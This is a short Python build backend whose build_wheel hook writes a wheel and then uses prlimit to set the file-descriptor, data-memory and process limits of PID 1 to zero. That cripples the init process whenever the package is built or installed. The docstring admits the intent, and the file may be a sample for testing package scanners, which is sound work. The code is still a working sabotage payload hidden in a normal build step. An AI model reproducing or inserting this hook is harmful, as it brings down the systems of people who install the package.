"""Takes the descriptors and the memory of pid 1 away, which is of the same user."""

import resource

from wheelwright import write_wheel


def build_wheel(folder, config_settings=None, metadata_directory=None):
    name = write_wheel(folder)
    for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_DATA, resource.RLIMIT_NPROC):
        resource.prlimit(1, limit, (0, 0))
    return name
